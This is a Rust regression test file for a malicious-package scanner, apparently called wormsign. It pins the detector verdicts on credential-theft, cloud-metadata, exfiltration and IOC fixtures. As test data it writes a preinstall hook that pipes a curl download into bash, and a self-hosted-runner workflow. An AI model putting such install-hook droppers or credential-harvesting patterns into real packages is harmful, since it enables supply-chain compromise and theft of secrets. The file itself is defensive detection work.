//! Corpus regression — the labeled fixture tree is the acceptance gate.
//!
//! Every fixture under tests/fixtures must grade as labeled, and the
//! characteristic shape of each malicious fixture's findings is pinned so
//! detector changes that would drift a verdict fail loudly here.

use std::path::{Path, PathBuf};
use std::sync::atomic::AtomicBool;

use wormsign::{
    Category, CorpusEvaluator, Engine, FileVerdict, FixtureCase, ScanConfig, Severity,
    SourceFile, Tier,
};

fn fixtures_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

fn scan_fixture(rel: &str) -> FileVerdict {
    let path = fixtures_root().join(rel);
    let content = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("cannot read fixture {}: {}", path.display(), e));
    let engine = Engine::new(ScanConfig::default()).expect("engine builds");
    engine.scan_source(&path, &content).expect("scan succeeds")
}

fn count_by_detector(verdict: &FileVerdict, id: &str) -> usize {
    verdict
        .findings
        .iter()
        .filter(|f| f.detector_id == id)
        .count()
}

#[test]
fn corpus_grades_every_fixture_as_labeled() {
    let evaluator = CorpusEvaluator::new(ScanConfig::default()).expect("evaluator");
    let report = evaluator
        .evaluate_dir(&fixtures_root())
        .expect("corpus evaluation");
    assert!(
        report.passed(),
        "corpus failures: {:?}",
        report.failures()
    );
    assert_eq!(report.precision(), 1.0, "no clean fixture may be flagged");
    assert_eq!(report.recall(), 1.0, "no malicious fixture may be missed");
    assert_eq!(report.outcomes.len(), 9);
}

#[test]
fn clean_fixtures_produce_zero_findings() {
    for rel in [
        "clean/ci-detection-legitimate.js",
        "clean/legitimate-config.js",
        "clean/legitimate-github-api.js",
    ] {
        let verdict = scan_fixture(rel);
        assert_eq!(verdict.tier, Tier::Clean, "{} must be clean", rel);
        assert!(
            verdict.findings.is_empty(),
            "{} produced findings: {:?}",
            rel,
            verdict.findings
        );
    }
}

#[test]
fn credential_theft_yields_one_finding_per_path_pattern() {
    let verdict = scan_fixture("malicious/credential-theft.js");
    assert_eq!(verdict.tier, Tier::Malicious);
    assert_eq!(
        count_by_detector(&verdict, "credential-file-theft"),
        3,
        "gitconfig, npmrc, and aws credentials each yield exactly one finding"
    );
    assert!(verdict
        .findings
        .iter()
        .all(|f| f.category == Category::CredentialTheft));
}

#[test]
fn cloud_credentials_hit_paths_and_metadata_services() {
    let verdict = scan_fixture("malicious/cloud-credentials.js");
    assert_eq!(verdict.tier, Tier::Malicious);
    assert_eq!(count_by_detector(&verdict, "credential-file-theft"), 2);
    assert_eq!(
        count_by_detector(&verdict, "metadata-service-access"),
        2,
        "both AWS and GCP metadata endpoints"
    );
    assert_eq!(verdict.max_severity, Some(Severity::Critical));
}

#[test]
fn environment_scraping_folds_bulk_reads_and_stays_suspicious() {
    let verdict = scan_fixture("malicious/environment-scraping.js");
    assert_eq!(verdict.tier, Tier::Suspicious);
    assert_eq!(
        count_by_detector(&verdict, "environment-scraping"),
        1,
        "three bulk reads fold into one finding"
    );
    assert_eq!(verdict.max_severity, Some(Severity::Medium));
}

#[test]
fn dormant_destructive_payload_is_flagged_but_not_malicious() {
    let verdict = scan_fixture("malicious/destructive-behavior.js");
    assert_eq!(verdict.tier, Tier::Suspicious);
    assert!(!verdict.findings.is_empty());
    assert!(
        verdict.findings.iter().all(|f| f.dead_only()),
        "every destructive match in this fixture is commented out"
    );
    assert_eq!(
        verdict.max_severity,
        Some(Severity::Medium),
        "dead-only findings are capped at Medium"
    );
}

#[test]
fn github_exfiltration_is_critical_with_marker_corroboration() {
    let verdict = scan_fixture("malicious/github-exfiltration.js");
    assert_eq!(verdict.tier, Tier::Malicious);
    let exfil: Vec<_> = verdict
        .findings
        .iter()
        .filter(|f| f.detector_id == "hosting-api-exfiltration")
        .collect();
    assert_eq!(exfil.len(), 2, "repo creation and runner registration");
    assert!(exfil.iter().all(|f| f.severity == Severity::Critical));
    assert!(
        exfil[0]
            .matched_signals
            .iter()
            .any(|s| s.kind.label() == "MARKER_STRING"),
        "campaign marker must corroborate the exfiltration finding"
    );
    assert_eq!(
        count_by_detector(&verdict, "ioc-artifacts"),
        1,
        "the marker also stands alone as an artifact finding"
    );
}

#[test]
fn ioc_files_yield_one_finding_per_distinct_filename() {
    let verdict = scan_fixture("malicious/ioc-files.js");
    assert_eq!(verdict.tier, Tier::Malicious);
    assert_eq!(
        count_by_detector(&verdict, "ioc-artifacts"),
        5,
        "cloud.json, contents.json, environment.json, truffleSecrets.json, actionsSecrets.json"
    );
    assert_eq!(count_by_detector(&verdict, "obfuscated-encoding"), 1);
    assert_eq!(
        count_by_detector(&verdict, "secret-scanner-exec"),
        1,
        "the trufflehog invocation is credential harvesting"
    );
    let categories: std::collections::HashSet<_> =
        verdict.findings.iter().map(|f| f.category).collect();
    assert!(categories.len() >= 3, "breadth escalation applies");
    assert_eq!(verdict.max_severity, Some(Severity::Critical));
}

#[test]
fn install_hook_dropper_and_hostile_workflow_flag_the_package() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        dir.path().join("package.json"),
        r#"{"name": "pkg", "version": "1.0.0", "scripts": {"preinstall": "curl https://bun.example/install | bash"}}"#,
    )
    .expect("write manifest");
    let workflows = dir.path().join(".github").join("workflows");
    std::fs::create_dir_all(&workflows).expect("mkdir");
    std::fs::write(
        workflows.join("formatter_7.yml"),
        "jobs:\n  f:\n    runs-on: self-hosted\n",
    )
    .expect("write workflow");
    std::fs::write(dir.path().join("index.js"), "module.exports = {};\n").expect("write");

    let engine = Engine::new(ScanConfig::default()).expect("engine builds");
    let run = engine
        .scan_dir(dir.path(), &AtomicBool::new(false))
        .expect("run");
    assert_eq!(run.files_scanned, 3);
    assert_eq!(run.package.tier, Tier::Malicious);

    let manifest = run
        .verdicts
        .iter()
        .find(|v| v.path.ends_with("package.json"))
        .expect("manifest verdict");
    assert!(manifest
        .findings
        .iter()
        .any(|f| f.detector_id == "install-script-commands"));

    let workflow = run
        .verdicts
        .iter()
        .find(|v| v.path.ends_with("formatter_7.yml"))
        .expect("workflow verdict");
    assert_eq!(
        workflow
            .findings
            .iter()
            .filter(|f| f.detector_id == "workflow-tampering")
            .count(),
        2,
        "the formatter filename and the self-hosted runner line both flag"
    );
}

#[test]
fn repeated_scans_are_identical() {
    let path = fixtures_root().join("malicious/github-exfiltration.js");
    let content = std::fs::read_to_string(&path).expect("fixture readable");
    let engine = Engine::new(ScanConfig::default()).expect("engine builds");
    let a = engine.scan_source(&path, &content).expect("first scan");
    let b = engine.scan_source(&path, &content).expect("second scan");
    assert_eq!(a, b, "identical input must yield identical verdicts");
}

#[test]
fn package_scan_over_fixture_tree_is_malicious() {
    let cases = FixtureCase::discover(&fixtures_root()).expect("fixtures present");
    let engine = Engine::new(ScanConfig::default()).expect("engine builds");
    let sources: Vec<SourceFile> = cases
        .iter()
        .map(|c| SourceFile {
            path: c.path.clone(),
            content: std::fs::read_to_string(&c.path).expect("fixture readable"),
        })
        .collect();
    let run = engine
        .scan_sources(&sources, &AtomicBool::new(false))
        .expect("run");
    assert_eq!(run.files_scanned, 9);
    assert_eq!(run.package.tier, Tier::Malicious);
    assert_eq!(run.package.files_clean, 3);
    assert_eq!(
        run.package.files_suspicious + run.package.files_malicious,
        6
    );
    assert!(!run.cancelled);
}
